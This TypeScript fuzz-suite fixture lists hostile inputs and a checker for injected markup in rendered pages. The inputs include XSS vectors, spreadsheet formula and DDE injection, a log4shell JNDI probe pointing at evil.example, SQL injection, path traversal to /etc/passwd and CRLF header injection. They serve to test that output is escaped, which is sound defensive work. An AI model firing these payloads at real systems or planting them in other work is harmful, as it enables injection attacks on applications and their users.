/**
 * Hostile text for the fuzz suite (test/integration/fuzz/): payloads that must come out escaped in
 * every page, e-mail and export, and the check that finds injected markup in a page.
 */

export const attack = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  svg: '"><svg/onload=alert(1)>',
  formula: '=HYPERLINK("http://evil.example","Click me")',
  dde: '+cmd|" /C calc"!A0',
  at: '@SUM(1+1)',
} as const;
export const xssComment = `${attack.script}${attack.img}`;

export const hostileText = [
  ...Object.values(attack),
  'javascript:alert(1)',
  '\u0000',
  'a\u0000b',
  '\u202eevil',
  '\ud800',
  '\udfff\ud800',
  '😡'.repeat(300),
  'Z̸̡̛̬̫͍̹̩̯̞a̴l̷g̶o',
  '\r\nSet-Cookie: a=b',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  "' OR '1'='1",
  '"; DROP TABLE x; --',
  '../../etc/passwd',
  '%00',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'toString',
  'x'.repeat(2001),
  'NaN',
  '1e400',
];

/** Percent-encodes every byte that is not unreserved (lone surrogates become U+FFFD, as in a browser). */
export const percentEncode = (text: string) =>
  [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

export const formOf = (fields: readonly (readonly [string, string])[]) =>
  new URLSearchParams(fields.map(([name, value]): [string, string] => [name, value])).toString();

/** Markup a page must never carry: only its own nonce'd script, no handler attributes, no injected tags. */
export const foreignMarkup = (page: string) => {
  const scripts = page.match(/<script\b[^>]*>/gi) ?? [];
  const outside = page.replace(/<script nonce="[^"]+">[\s\S]*?<\/script>/g, '');
  const found: string[] = [];
  if (scripts.length > 1 || scripts.some((tag) => !/^<script nonce="[^"]+">$/.test(tag)))
    found.push('a script without the page nonce');
  if (/<(img|svg|iframe|object|embed|math)\b/i.test(outside)) found.push('an injected element');
  if (/<[a-z][^>]*\son[a-z]+\s*=/i.test(outside)) found.push('an event-handler attribute');
  if (/<[a-z][^>]*javascript:/i.test(outside)) found.push('a javascript: URL');
  if (/<[a-z][^>]*alert\(1\)/i.test(outside)) found.push('the injected payload, unescaped');
  return found;
};

/** The XSS payload of `xssComment` as a page or e-mail must show it: escaped. */
export const escapedXss = '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;';
